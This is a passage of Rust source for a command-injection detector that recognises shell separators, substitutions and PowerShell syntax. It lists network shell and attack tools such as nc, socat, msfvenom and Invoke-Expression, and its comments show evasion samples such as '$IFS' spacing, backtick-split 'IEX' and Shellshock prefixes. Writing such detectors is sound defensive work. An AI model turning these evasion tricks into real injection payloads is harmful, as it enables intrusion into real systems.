//! OS command injection: shell grammar rather than payload lists. A command separator
//! (`;`, `|`, `||`, `&`, `&&`, newline) or a substitution (`` ` ``, `$(`, `<(`) followed by a
//! command word, after removing what shells ignore inside a word (quotes, backslashes, `$@`,
//! empty `${x}`) and the `$IFS` space substitute. Command words common in prose (`cat`, `id`,
//! `type`) also need something that looks like an argument (a flag, a path, a redirection).

use super::subject::{
    class, dashed_word_start, find, find_iter, gate, is_word, skip_space, Hit, Needs, Subject,
    Tables,
};

/// Commands with no ordinary-language meaning: reaching one after a separator is enough
/// (so is reaching a Windows program of [`WINDOWS`] or [`ADMINISTRATION`]).
const STRONG: &[&[u8]] = &[
    b"whoami",
    b"uname",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"csh",
    b"tcsh",
    b"dash",
    b"busybox",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"lua",
    b"node",
    b"nslookup",
    b"dig",
    b"ifconfig",
    b"netstat",
    b"powershell",
    b"pwsh",
    b"chmod",
    b"chown",
    b"passwd",
    b"useradd",
    b"usermod",
    b"crontab",
    b"telnet",
    b"ssh",
    b"scp",
    b"tftp",
    b"socat",
    b"xterm",
    b"nohup",
    b"xxd",
    b"awk",
    b"gawk",
    b"nmap",
    b"tcpdump",
    b"iptables",
    b"sudo",
    b"printenv",
    b"lsof",
    b"hostname",
    b"ifup",
    b"getent",
    b"lastlog",
    b"lastlogin",
    b"net",
    b"reg",
    b"sc",
    b"whoami.exe",
    b"cmd.exe",
    b"powershell.exe",
    b"env",
    b"unset",
    b"export",
    b"sed",
    b"base64",
    b"md5sum",
    b"sha1sum",
    b"od",
    b"strings",
    b"dd",
    b"mkfifo",
    b"mknod",
    b"pkill",
    b"killall",
    b"iex",
    b"iwr",
    b"irm",
    b"invoke-webrequest",
    b"invoke-expression",
    b"invoke-restmethod",
    b"start-process",
    // PowerShell's delay, the time-based probe of a PowerShell injection.
    b"start-sleep",
    b"new-object",
    b"invoke-command",
    b"set-executionpolicy",
    // Administration, build and debugging tools a request has no reason to name.
    b"visudo",
    b"pkexec",
    b"doas",
    b"cscli",
    b"cpulimit",
    b"strace",
    b"ltrace",
    b"gdb",
    b"bsdtar",
    b"htop",
    b"clang",
    b"c89",
    b"c99",
    b"kubectl",
    b"crictl",
    // Cloud CLIs: the function's own credentials are in its environment.
    b"aws",
    b"gcloud",
    b"gsutil",
    b"podman",
    b"systemctl",
    b"journalctl",
    b"setfacl",
    b"chattr",
    b"tmux",
    // Reconnaissance, transfer and shell tools with no ordinary-language meaning.
    b"printf",
    b"ping6",
    b"traceroute",
    b"whois",
    b"dmesg",
    b"lsblk",
    b"lspci",
    b"lsmod",
    b"insmod",
    b"modprobe",
    b"sysctl",
    b"ulimit",
    b"lscpu",
    b"hostnamectl",
    b"pgrep",
    b"jrunscript",
    b"tclsh",
    b"irb",
    b"sftp",
    b"smbclient",
    b"rlogin",
    b"rsh",
    b"msfconsole",
    b"msfvenom",
    b"chgrp",
    b"chpasswd",
    b"adduser",
    b"userdel",
    b"groupadd",
    b"mkfs",
    b"fdisk",
    b"setenforce",
    b"getenforce",
    b"usleep",
    b"readlink",
    b"ldapsearch",
    b"mysqldump",
    b"pg_dump",
    b"sqlite3",
    b"redis-cli",
    b"rsync",
    b"lwp-download",
    b"lwp-request",
    b"hexdump",
    b"uuencode",
    b"zcat",
    b"bzcat",
    b"xzcat",
    b"egrep",
    b"fgrep",
    b"setsid",
    b"mksh",
    b"rbash",
    b"bash.exe",
    b"ifconfig.exe",
    // Wrappers that only change how the next command runs.
    b"stdbuf",
    b"rlwrap",
    b"unbuffer",
    b"ionice",
];

/// Tool families whose commands are `<family>-<verb>` (`ansible-vault`, `chef-run`,
/// `docker-compose`): the family names the command.
const FAMILIES: &[&str] = &["ansible-", "chef-", "docker-", "kubectl-", "apt-", "dpkg-"];

/// Commands that are also words: they need an argument-looking follower.
const WEAK: &[&[u8]] = &[
    b"cat",
    b"expr",
    b"ls",
    b"id",
    b"echo",
    b"sleep",
    b"ping",
    b"kill",
    b"sort",
    b"find",
    b"more",
    b"head",
    b"tail",
    b"type",
    b"dir",
    b"set",
    b"who",
    b"w",
    b"last",
    b"less",
    b"touch",
    b"rm",
    b"mv",
    b"cp",
    b"mkdir",
    b"rmdir",
    b"cd",
    b"pwd",
    b"ps",
    b"top",
    b"date",
    b"time",
    b"tee",
    b"grep",
    b"tar",
    b"zip",
    b"unzip",
    b"gzip",
    b"xargs",
    b"exec",
    b"eval",
    b"source",
    b"test",
    b"timeout",
    b"wait",
    b"uptime",
    b"df",
    b"du",
    b"free",
    b"file",
    b"stat",
    b"chdir",
    b"copy",
    b"del",
    b"move",
    b"ver",
    b"vol",
    b"print",
    b"start",
    b"call",
    b"ln",
    b"nl",
    b"rev",
    b"tac",
    b"cut",
    b"diff",
    b"which",
    b"whereis",
    b"locate",
    b"mail",
    b"history",
    b"logout",
    b"shutdown",
    b"reboot",
    b"halt",
    b"mount",
    b"umount",
    b"ssh-keygen",
    b"openssl",
    b"git",
    b"svn",
    b"apt",
    b"yum",
    b"pip",
    b"npm",
    b"java",
    b"gcc",
    b"make",
    b"vi",
    b"vim",
    b"nano",
    b"perf",
    b"aptitude",
    b"rmt",
    b"trap",
    b"alias",
    b"docker",
    b"cc",
    b"su",
    b"screen",
    b"service",
    b"bridge",
    b"ansible",
    b"flock",
    b"ip",
    b"shred",
    b"ss",
    b"host",
    b"finger",
    b"groups",
    b"wc",
    b"route",
    b"arp",
    b"tree",
    b"attrib",
    b"ftp",
    b"expect",
    b"seq",
    b"script",
    b"calc",
    b"notepad",
    b"mspaint",
    b"explorer",
];

/// The program a command word names: Windows' `%ComSpec%` is `cmd`; a path names its last
/// segment (`%SystemRoot%\system32\cmd.exe`, `/usr/bin/python3`). Lower case.
fn program(word: &[u8]) -> &[u8] {
    if word == b"%comspec%" {
        return b"cmd";
    }
    word.rsplit(|c| matches!(c, b'/' | b'\\'))
        .next()
        .unwrap_or(word)
}

fn command_class(word: &[u8]) -> Option<bool> {
    // A shell's `$0` (`${0}`) is the shell itself (`;$0 -c id`).
    if word == b"$0" {
        return Some(true);
    }
    let base = program(word);
    let base = base.strip_suffix(b".exe").unwrap_or(base);
    // A versioned binary (`python3.10`, `gcc10.1`) is the tool itself.
    let unversioned = base.trim_ascii_end();
    let cut = unversioned
        .iter()
        .rposition(|c| !(c.is_ascii_digit() || *c == b'.'))
        .map_or(0, |i| i + 1);
    // (Unless the versioned name is a command of its own: `ping6`, not `ping`.)
    let base = if cut > 0
        && base[cut..].first().is_some_and(u8::is_ascii_digit)
        && known(base).is_none()
        && known(&base[..cut]).is_some()
    {
        &base[..cut]
    } else {
        base
    };
    let family = FAMILIES
        .iter()
        .any(|f| base.len() > f.len() && base.starts_with(f.as_bytes()));
    if family || cmdlet(base) {
        Some(true)
    } else {
        known(base)
    }
}

/// PowerShell verbs and the nouns of the cmdlets that read, run or fetch: `Get-ChildItem`,
/// `Invoke-WmiMethod`, `Out-File`… are commands by their shape, whichever pair is used.
const CMDLET_VERBS: &[&[u8]] = &[
    b"get",
    b"set",
    b"new",
    b"remove",
    b"invoke",
    b"start",
    b"stop",
    b"add",
    b"copy",
    b"move",
    b"out",
    b"write",
    b"export",
    b"import",
    b"convertto",
    b"convertfrom",
    b"test",
    b"enable",
    b"disable",
    b"register",
    b"restart",
    b"clear",
    b"select",
    b"expand",
    b"compress",
    b"resolve",
];
const CMDLET_NOUNS: &[&[u8]] = &[
    b"childitem",
    b"item",
    b"itemproperty",
    b"content",
    b"process",
    b"service",
    b"wmiobject",
    b"wmimethod",
    b"ciminstance",
    b"cimmethod",
    b"localuser",
    b"localgroupmember",
    b"aduser",
    b"adcomputer",
    b"nettcpconnection",
    b"netipconfiguration",
    b"command",
    b"location",
    b"alias",
    b"variable",
    b"executionpolicy",
    b"webrequest",
    b"restmethod",
    b"expression",
    b"object",
    b"scheduledtask",
    b"mppreference",
    b"clipboard",
    b"credential",
    b"acl",
    b"file",
    b"filehash",
    b"module",
    b"psdrive",
    b"pssession",
    b"computerinfo",
    b"hotfix",
    b"eventlog",
    b"winevent",
    b"history",
    b"bitstransfer",
    b"archive",
    b"string",
    b"json",
    b"securestring",
    b"connection",
    b"dnsname",
    b"type",
];

/// Whether `word` is a PowerShell cmdlet name: a [`CMDLET_VERBS`] verb, a dash, a
/// [`CMDLET_NOUNS`] noun.
fn cmdlet(word: &[u8]) -> bool {
    let Some(dash) = memchr::memchr(b'-', word) else {
        return false;
    };
    CMDLET_VERBS.contains(&&word[..dash]) && CMDLET_NOUNS.contains(&&word[dash + 1..])
}

/// Known command words with their strength, sorted; per first byte, the lengths (bit `n`, up
/// to 31) of the words it starts.
type Commands = (Vec<(&'static [u8], bool)>, [u32; 256]);

/// [`STRONG`], [`WINDOWS`] and [`ADMINISTRATION`] (`true`) and [`WEAK`] (`false`) words,
/// sorted, with their first bytes and lengths: every word after a separator is looked up, so
/// a search, not a scan of two hundred entries.
static COMMANDS: std::sync::LazyLock<Commands> = std::sync::LazyLock::new(|| {
    let strong = STRONG.iter().chain(WINDOWS).chain(ADMINISTRATION);
    let mut all: Vec<(&[u8], bool)> = strong.map(|w| (*w, true)).collect();
    all.extend(WEAK.iter().map(|w| (*w, false)));
    // A word in both lists is strong: sort it first, keep the first.
    all.sort_by(|a, b| a.0.cmp(b.0).then(b.1.cmp(&a.1)));
    all.dedup_by_key(|e| e.0);
    let mut lengths = [0u32; 256];
    for (w, _) in &all {
        if let Some(c) = w.first() {
            lengths[usize::from(*c)] |= 1 << w.len().min(31);
        }
    }
    (all, lengths)
});

/// Builds [`COMMANDS`] now (the inspector's init) rather than in the first invocation.
pub(crate) fn prepare() {
    std::sync::LazyLock::force(&COMMANDS);
}

/// Whether `word` is a strong command, a weak one, or none.
fn known(word: &[u8]) -> Option<bool> {
    let (all, lengths) = &*COMMANDS;
    if lengths[usize::from(*word.first()?)] & (1 << word.len().min(31)) == 0 {
        return None;
    }
    all.binary_search_by(|e| e.0.cmp(word))
        .ok()
        .map(|i| all[i].1)
}

/// A command word read after a separator.
struct Word {
    end: usize,
    text: [u8; 32],
    len: usize,
    evasion: bool,
    /// Something only a shell removes splits the word inside (`w'h'o`, `wh\oami`, `c$_at`,
    /// `ping$()`): no prose spells a word so.
    split: bool,
    /// A `(` opened a subshell before the word (`;(id)`).
    group: bool,
}

/// cmd.exe's substring of a variable, `%CommonProgramFiles:~10,-18%` (a blank) or
/// `%COMSPEC:~-16,1%`: characters taken out of the environment to spell what a filter looks
/// for. No data writes one.
fn cmd_substring(b: &[u8]) -> Option<Hit> {
    memchr::memmem::find_iter(b, b":~").take(16).find_map(|p| {
        let name = b[..p]
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'(' | b')'))
            .count();
        let open = p.checked_sub(name + 1)?;
        let number = |mut i: usize| {
            i += usize::from(b.get(i) == Some(&b'-'));
            let digits = b[i.min(b.len())..]
                .iter()
                .take_while(|c| c.is_ascii_digit())
                .count();
            (digits > 0).then_some(i + digits)
        };
        let mut end = number(p + 2)?;
        if b.get(end) == Some(&b',') {
            end = number(end + 1)?;
        }
        (name > 0 && b[open] == b'%' && b.get(end) == Some(&b'%'))
            .then(|| Hit::new("cmdi.shell_evasion", open, end + 1))
    })
}

fn read_word(b: &[u8], mut i: usize) -> Word {
    let mut evasion = false;
    let mut group = false;
    // Leading noise a shell ignores before a command (bounded: each separator reads one word).
    let noise_end = b.len().min(i + 64);
    loop {
        while i < noise_end && (b[i].is_ascii_whitespace() || matches!(b[i], b'{' | b'(' | b'!')) {
            group |= b[i] == b'(';
            i += 1;
        }
        // cmd.exe's `@` before a command only keeps it from being echoed (`&@whoami`).
        if i < noise_end
            && b[i] == b'@'
            && b.get(i + 1)
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'^')
        {
            i += 1;
            evasion = true;
            continue;
        }
        if let Some(n) = ifs_at(b, i) {
            i += n;
            evasion = true;
            continue;
        }
        break;
    }
    let mut text = [0u8; 32];
    let mut len = 0;
    let (mut quotes, mut inner_quote, mut split) = (0, false, false);
    // A word is read for 256 bytes at most: every separator and brace reads one, and a value
    // with no word break (`${a:${a:…`) would otherwise be read to its end for each.
    let word_end = b.len().min(i + 256);
    while i < word_end {
        let c = b[i];
        // A newline escaped as text ends the command (`;id\n`).
        if c == b'\\' && len > 0 && matches!(b.get(i + 1), Some(b'n' | b'r')) {
            break;
        }
        // An empty substitution inside or closing a word (`ping$()`, `pi<()ng`, `wh``oami`,
        // `ping`` 127.0.0.1`) expands to nothing.
        let empty = match c {
            b'$' | b'<' | b'>' => b.get(i + 1) == Some(&b'(') && b.get(i + 2) == Some(&b')'),
            b'`' => {
                b.get(i + 1) == Some(&b'`')
                    && b.get(i + 2)
                        .is_none_or(|c| c.is_ascii_alphanumeric() || *c == b' ')
            }
            _ => false,
        };
        if empty && len > 0 {
            evasion = true;
            split = true;
            i += if c == b'`' { 2 } else { 3 };
            continue;
        }
        if c.is_ascii_whitespace()
            || matches!(
                c,
                b';' | b'|' | b'&' | b'`' | b')' | b'(' | b'<' | b'>' | b',' | b'}'
            )
        {
            break;
        }
        // A Windows path keeps its separators (`%windir%\system32\whoami.exe`, `c:\x\cmd`).
        let windows_path = c == b'\\'
            && len > 1
            && (text[0] == b'%' || text[1] == b':')
            && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric);
        match c {
            b'\'' | b'"' | b'\\' | b'^' if !windows_path => {
                evasion |= len > 0 || c == b'\\';
                let inside = len > 0 && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric);
                if matches!(c, b'\\' | b'^') {
                    split |= inside;
                } else {
                    quotes += 1;
                    inner_quote |= inside;
                }
                i += 1;
                continue;
            }
            b'$' => {
                if b.get(i + 1) == Some(&b'(') {
                    break;
                }
                // `$0` (`${0}`) as a whole word is the shell's own name: `;$0 -c id`.
                let shell = [&b"$0"[..], b"${0}"]
                    .into_iter()
                    .find(|p| b[i..].starts_with(p))
                    .filter(|p| {
                        b.get(i + p.len()).is_none_or(|c| {
                            c.is_ascii_whitespace() || matches!(c, b';' | b'|' | b'&' | b')')
                        })
                    });
                if let Some(p) = shell.filter(|_| len == 0) {
                    text[..2].copy_from_slice(b"$0");
                    len = 2;
                    i += p.len();
                    continue;
                }
                // Special parameters expand to nothing useful inside a word (`c$@at`, `una$$me`).
                if matches!(
                    b.get(i + 1),
                    Some(b'@' | b'*' | b'0'..=b'9' | b'!' | b'?' | b'_' | b'$' | b'#' | b'-')
                ) {
                    evasion = true;
                    split |= len > 0;
                    i += 2;
                    continue;
                }
                if let Some(n) = ifs_at(b, i) {
                    evasion = true;
                    i += n;
                    break;
                }
                if b.get(i + 1) == Some(&b'{') {
                    if let Some(e) = memchr::memchr(b'}', &b[i..(i + 40).min(b.len())]) {
                        evasion = true;
                        i += e + 1;
                        continue;
                    }
                }
                // A short unset variable glued to a word expands to nothing: `cat$u`, `wh$x`.
                let name = b[i + 1..]
                    .iter()
                    .take(4)
                    .take_while(|c| c.is_ascii_lowercase())
                    .count();
                let after = b.get(i + 1 + name);
                if len > 0 && (1..=3).contains(&name) && !after.is_some_and(|c| is_word(*c)) {
                    evasion = true;
                    split = true;
                    i += 1 + name;
                    continue;
                }
            }
            _ => {}
        }
        if len < text.len() {
            text[len] = c;
            len += 1;
        }
        i += 1;
    }
    Word {
        end: i,
        text,
        len,
        evasion,
        split: split || (inner_quote && quotes >= 2),
        group,
    }
}

/// `$IFS`, `${IFS}`, `$IFS$9` at `i`: its length.
fn ifs_at(b: &[u8], i: usize) -> Option<usize> {
    let rest = b.get(i..)?;
    let n = if rest.starts_with(b"${ifs}") {
        6
    } else if rest.starts_with(b"$ifs") {
        4
    } else {
        return None;
    };
    let extra = if rest.get(n) == Some(&b'$') && rest.get(n + 1).is_some_and(u8::is_ascii_digit) {
        2
    } else {
        0
    };
    Some(n + extra)
}

/// Whether what follows a weak command looks like shell arguments rather than prose.
fn argument_follows(b: &[u8], i: usize, substitution: bool) -> bool {
    let mut j = i;
    while j < b.len() && matches!(b[j], b' ' | b'\t') {
        j += 1;
    }
    if ifs_at(b, i).is_some() {
        return true;
    }
    match b.get(j) {
        // Nothing but blanks to the end: the command ends the value (`;id `).
        None => true,
        // `npm >= 9`: a comparison, not a redirection.
        Some(b'<' | b'>') if b.get(j + 1) == Some(&b'=') => false,
        Some(c) => {
            subcommand_option(b, i, j)
                || starts_argument(*c)
                || matches!(c, b'.' | b'%' | b',' | b'\n' | b'\r')
                || c.is_ascii_digit()
                || (c.is_ascii_alphabetic() && b.get(j + 1) == Some(&b':'))
                || (*c == b')' && substitution)
                || (*c == b'(' && j > 0 && b[j - 1] == b'$')
                // `;id #`: a comment ending the injected command and the value.
                || (*c == b'#' && b[j + 1..].trim_ascii().is_empty())
                || executable(b, j)
                // A relative file only after a separator: Markdown's inline code writes
                // `` `cat a.pem b.pem > c.pem` `` in prose.
                || redirects(b, j, !substitution)
        }
    }
}

/// A program's file name starts at `j` (`start calc.exe`, `call x.bat`).
fn executable(b: &[u8], j: usize) -> bool {
    let end = j + b[j..b.len().min(j + 64)]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'\\' | b':'))
        .count();
    let word = &b[j..end];
    [
        &b".exe"[..],
        b".bat",
        b".cmd",
        b".ps1",
        b".vbs",
        b".hta",
        b".dll",
        b".scr",
        b".msi",
    ]
    .iter()
    .any(|x| word.len() > x.len() && word.ends_with(x))
}

/// The command's words up to the next separator (64 bytes at most) redirect its output to a
/// path, a descriptor or a variable (`echo x > /var/www/a`, `>> ~/.bashrc`, `2>&1`), or with
/// `relative` to a [`relative_file`].
fn redirects(b: &[u8], j: usize, relative: bool) -> bool {
    let end = b.len().min(j + 64);
    let Some(g) = b[j..end]
        .iter()
        .take_while(|c| !matches!(c, b';' | b'|' | b'&' | b'\n' | b'`'))
        .position(|c| *c == b'>')
    else {
        return false;
    };
    let mut k = j + g + 1;
    if b.get(k) == Some(&b'>') {
        k += 1;
    }
    while b.get(k).is_some_and(|c| matches!(c, b' ' | b'\t')) {
        k += 1;
    }
    b.get(k)
        .is_some_and(|c| matches!(c, b'/' | b'~' | b'&' | b'$' | b'%'))
        || (relative && relative_file(&b[k..]))
}

/// A relative file name with an extension, and nothing more up to a separator
/// (`x.txt`, `out.php;`): commix's file-based probe writes `echo TOKEN > TOKEN.txt`.
fn relative_file(b: &[u8]) -> bool {
    let name = b
        .iter()
        .take(64)
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
        .count();
    let Some(dot) = b[..name].iter().rposition(|c| *c == b'.') else {
        return false;
    };
    let ext = &b[dot + 1..name];
    dot > 0
        && (1..=5).contains(&ext.len())
        && ext[0].is_ascii_alphabetic()
        && ext.iter().all(u8::is_ascii_alphanumeric)
        && b.get(name).is_none_or(|c| {
            matches!(
                c,
                b';' | b'|'
                    | b'&'
                    | b'\n'
                    | b'\r'
                    | b'\''
                    | b'"'
                    | b'`'
                    | b' '
                    | b'/'
                    | b'\\'
                    | b'#'
                    | 0x1a
            )
        })
}

/// A subcommand at `j` (after spaces from `i`), then an option: `ansible all -m ping`,
/// `git log --all`.
fn subcommand_option(b: &[u8], i: usize, j: usize) -> bool {
    if j == i || !b[j].is_ascii_lowercase() {
        return false;
    }
    let w = j + b[j..]
        .iter()
        .take_while(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || **c == b'_')
        .count();
    let o = w + 1;
    let dashes = b[o.min(b.len())..]
        .iter()
        .take(2)
        .take_while(|c| **c == b'-')
        .count();
    b.get(w) == Some(&b' ') && dashes > 0 && b.get(o + dashes).is_some_and(u8::is_ascii_alphabetic)
}

/// Byte classes that separate or substitute commands.
const SEPARATORS: u32 = class::SEMI
    | class::PIPE
    | class::AMP
    | class::BACKTICK
    | class::DOLLAR
    | class::NEWLINE
    | class::BRACE
    | class::ANGLE;

/// What `detect` needs to fire (see [`Needs`]): a separator or substitution, a quote or a
/// backslash (words split by them), `$IFS`, a
/// shell path, a glob in a path, Windows `FOR`'s `%` or an `IF` condition word, an interpreter,
/// wrapper or cmdlet name; from paranoia 2 anything (a bare command line).
pub(crate) fn needs() -> Needs {
    let cmdlets = STRONG.iter().filter(|w| w.contains(&b'-'));
    Needs::classes(
        SEPARATORS
            | class::QUESTION
            | class::STAR
            | class::BRACKET
            | class::OPS
            | class::QUOTE
            | class::BACKSLASH,
    )
    .or_gates(gate::IFS | gate::SHELL_PATH | gate::EXEC_OPTION)
    .or_words(&[
        "exist",
        "defined",
        "errorlevel",
        "cmdextversion",
        "==",
        "equ",
        "neq",
    ])
    .or_words(&["lss", "leq", "gtr", "geq"])
    .or_keywords(WRAPPERS)
    .or_keywords(RUNS_ARGUMENT.iter().map(|(command, _)| command))
    .or_keywords(cmdlets)
    .or_words(FAMILIES)
    .or_words(RECON)
    .or_words(&["net ", "sleep ", "ping "])
    .or_words(&[" -", "alias "])
    .or_keywords(ADMINISTRATION)
    .or_keywords(WINDOWS)
    .or_keywords(DOWNLOADERS)
    .on_links_only(gate::IFS | gate::SHELL_PATH | gate::EXEC_OPTION)
    .always_from(2)
}

/// Finds command injection in one value.
pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
    let b = s.bytes();
    if s.gate(gate::IFS) {
        if let Some(p) = find(b, b"$ifs").or_else(|| find(b, b"${ifs}")) {
            return Some(Hit::new("cmdi.shell_evasion", p, p + 6));
        }
    }
    if s.gate(gate::SHELL_PATH) {
        if let Some(h) = shell_paths(b).or_else(|| sqlite_shell(b)) {
            return Some(h);
        }
    }
    if s.gate(gate::EXEC_OPTION) {
        if let Some(h) = argument_injection(b) {
            return Some(h);
        }
    }
    if s.paranoia >= 2
        || !s.has(
            !(class::ALPHA | class::SPACE | class::SLASH | class::DASH | class::DOT | class::DIGIT),
        )
    {
        if let Some(h) = recon(b) {
            return Some(h);
        }
    }
    if s.has(class::ANGLE) && s.has(class::QUOTE | class::DOLLAR) {
        if let Some(h) = here_string(b) {
            return Some(h);
        }
    }
    if s.has(class::ANGLE) && s.has(class::HASH) {
        if let Some(h) = server_side_include(b) {
            return Some(h);
        }
    }
    if s.has(class::OPS) {
        if let Some(h) = cmd_substring(b) {
            return Some(h);
        }
    }
    if s.has(class::PAREN) && s.has(class::BRACE) {
        // Shellshock: bash imports `() {` values from the environment as functions.
        let t = skip_space(b, 0);
        if b[t..].starts_with(b"()") && b.get(skip_space(b, t + 2)) == Some(&b'{') {
            return Some(Hit::new("cmdi.shellshock", t, t + 3));
        }
    }
    if s.has(class::SLASH) && s.has(class::QUESTION | class::STAR | class::BRACKET) {
        if let Some(h) = glob_paths(b) {
            return Some(h);
        }
    }
    if let Some(h) = powershell(s) {
        return Some(h);
    }
    if s.has(class::PAREN) && s.has(class::BRACE) {
        if let Some(h) = fork_bomb(b) {
            return Some(h);
        }
    }
    if s.has(class::SPACE) {
        if let Some(h) = batch(b)
            .or_else(|| interpreter(b))
            .or_else(|| command_line(b))
        {
            return Some(h);
        }
    }
    if s.has(class::DOLLAR) {
        if let Some(h) = expansion(b) {
            return Some(h);
        }
    }

    if s.has(
        class::QUOTE
            | class::BACKSLASH
            | class::DOLLAR
            | class::BACKTICK
            | class::OPS
            | class::ANGLE,
    ) {
        if let Some(h) = split_command(b) {
            return Some(h);
        }
    }
    if s.paranoia >= 2 || s.has(SEPARATORS | class::BACKSLASH) {
        if let Some(h) = chains(b, s.text.as_bytes(), s.paranoia) {
            return Some(h);
        }
    }
    None
}

/// Needles of the PowerShell syntax [`powershell`] reads: a static member, an object built.
pub(crate) const POWERSHELL: &[&str] = &["]::", "new-object"];

/// .NET namespaces and types a PowerShell static call reaches to run, load, fetch or decode:
/// `[System.Diagnostics.Process]::Start(`, `[Convert]::FromBase64String(`.
const DOTNET_TYPES: &[&[u8]] = &[
    b"system",
    b"diagnostics",
    b"reflection",
    b"convert",
    b"scriptblock",
    b"activator",
    b"appdomain",
    b"environment",
    b"runtime",
    b"io",
    b"net",
    b"text",
    b"microsoft",
    b"management",
    b"type",
];

/// PowerShell syntax no other text writes: a static call on a .NET type (`[Convert]::X(`), an
/// object built from a .NET or COM type (`New-Object Net.WebClient`), a command name split by
/// backtick escapes (``I`E`X``), the call operator on a string expression (`&('i'+'ex')`,
/// `.("{1}{0}" -f 'ex','i')`).
fn powershell(s: &Subject<'_>) -> Option<Hit> {
    let b = s.bytes();
    if s.gate(gate::POWERSHELL) {
        if let Some(h) = dotnet(b) {
            return Some(h);
        }
    }
    if s.has(class::BACKTICK) {
        if let Some(h) = backtick_escaped(b) {
            return Some(h);
        }
    }
    if s.has(class::BRACE) {
        if let Some(h) = script_block(b) {
            return Some(h);
        }
    }
    if s.has(class::AMP | class::DOT) && s.has(class::PAREN) && s.has(class::QUOTE) {
        return call_operator(b);
    }
    None
}

/// Cmdlets that run the script block they are given.
const BLOCK_RUNNERS: &[&[u8]] = &[b"icm", b"invoke-command", b"start-job", b"sajb"];

/// A script block handed to a cmdlet that runs it: `icm {whoami}`,
/// `Invoke-Command -ScriptBlock {…}`, `Start-Job {…}`.
fn script_block(b: &[u8]) -> Option<Hit> {
    memchr::memchr_iter(b'{', b).find_map(|open| {
        let mut end = b[..open].trim_ascii_end().len();
        let mut ws = dashed_word_start(b, end);
        // `-ScriptBlock`, `-sc`: the block's parameter, by any unambiguous prefix.
        if b[ws..end].starts_with(b"-s") {
            end = b[..ws].trim_ascii_end().len();
            ws = dashed_word_start(b, end);
        }
        // In command position: opening the value or after a separator (`the ICM {…} note`
        // is prose).
        let before = b[..ws].trim_ascii_end();
        let command = before
            .last()
            .is_none_or(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'(' | b'{'));
        (command && BLOCK_RUNNERS.contains(&&b[ws..end]))
            .then(|| Hit::new("cmdi.command_chain", ws, open + 1))
    })
}

/// `[System.Diagnostics.Process]::Start(`, `New-Object Net.WebClient`.
fn dotnet(b: &[u8]) -> Option<Hit> {
    for p in find_iter(b, b"]::") {
        let from = p.saturating_sub(64);
        let Some(open) = memchr::memrchr(b'[', &b[from..p]).map(|o| from + o) else {
            continue;
        };
        let ty = &b[open + 1..p];
        let known = !ty.is_empty()
            && ty.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'.')
            && ty
                .split(|c| *c == b'.')
                .any(|seg| DOTNET_TYPES.contains(&seg));
        let name = b[p + 3..].iter().take_while(|c| is_word(**c)).count();
        if known && name > 0 && b.get(skip_space(b, p + 3 + name)) == Some(&b'(') {
            return Some(Hit::new("cmdi.command_chain", open, p + 3 + name));
        }
    }
    for p in find_iter(b, b"new-object") {
        let mut j = skip_space(b, p + 10);
        for flag in [&b"-typename"[..], b"-comobject"] {
            if b[j..].starts_with(flag) {
                j = skip_space(b, j + flag.len());
            }
        }
        let ty = b[j..]
            .iter()
            .take_while(|c| is_word(**c) || **c == b'.')
            .count();
        if j > p + 10 && ty > 2 && b[j..j + ty].contains(&b'.') {
            return Some(Hit::new("cmdi.command_chain", p, j + ty));
        }
    }
    None
}

/// A command name split by PowerShell's backtick escapes: ``I`E`X``, ``Inv`oke-Ex`pression``.
fn backtick_escaped(b: &[u8]) -> Option<Hit> {
    for p in memchr::memchr_iter(b'`', b) {
        if !(p > 0
            && b[p - 1].is_ascii_alphabetic()
            && b.get(p + 1).is_some_and(u8::is_ascii_alphabetic))
        {
            continue;
        }
        let token = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'`');
        let from = p.saturating_sub(32);
        let start = b[from..p]
            .iter()
            .rposition(|c| !token(c))
            .map_or(from, |x| from + x + 1);
        let end = p + b[p..b.len().min(p + 32)]
            .iter()
            .take_while(|c| token(c))
            .count();
        let mut word = [0u8; 32];
        let mut n = 0;
        for c in b[start..end].iter().filter(|c| **c != b'`') {
            word[n.min(31)] = *c;
            n += 1;
        }
        if n <= 32 && command_class(&word[..n]) == Some(true) {
            return Some(Hit::new("cmdi.shell_evasion", start, end));
        }
    }
    None
}

/// PowerShell's call operator on a string expression: `&('i'+'ex')`, `.("{1}{0}" -f 'ex','i')`.
fn call_operator(b: &[u8]) -> Option<Hit> {
    for open in memchr::memchr_iter(b'(', b) {
        let Some(p) = b[..open].trim_ascii_end().len().checked_sub(1) else {
            continue;
        };
        let boundary = p == 0 || matches!(b[p - 1], b' ' | b'\t' | b';' | b'|' | b'(' | b'{');
        if !matches!(b[p], b'&' | b'.') || !boundary || open - p > 8 {
            continue;
        }
        if let Some((value, end, _)) = string_value(b, skip_space(b, open + 1)) {
            if command_class(value.trim_ascii()) == Some(true) {
                return Some(Hit::new("cmdi.shell_evasion", p, end));
            }
        }
    }
    None
}

/// A string expression at `i`: quoted literals joined by `+` or `.`, or a PowerShell format
/// (`"{1}{0}" -f 'ex','i'`); its value (32 bytes at most), where it ends and how many
/// literals made it.
pub(crate) fn string_value(b: &[u8], i: usize) -> Option<(Vec<u8>, usize, usize)> {
    let literal = |at: usize| -> Option<(&[u8], usize)> {
        let q = *b.get(at).filter(|c| matches!(c, b'\'' | b'"'))?;
        let len = memchr::memchr(q, &b[at + 1..b.len().min(at + 34)])?;
        Some((&b[at + 1..at + 1 + len], at + len + 2))
    };
    let (first, mut end) = literal(i)?;
    let mut value = first.to_vec();
    let f = skip_space(b, end);
    if b[f..].starts_with(b"-f ") {
        let mut args: Vec<&[u8]> = Vec::new();
        let mut j = skip_space(b, f + 3);
        while let Some((arg, e)) = literal(j) {
            args.push(arg);
            end = e;
            j = skip_space(b, e);
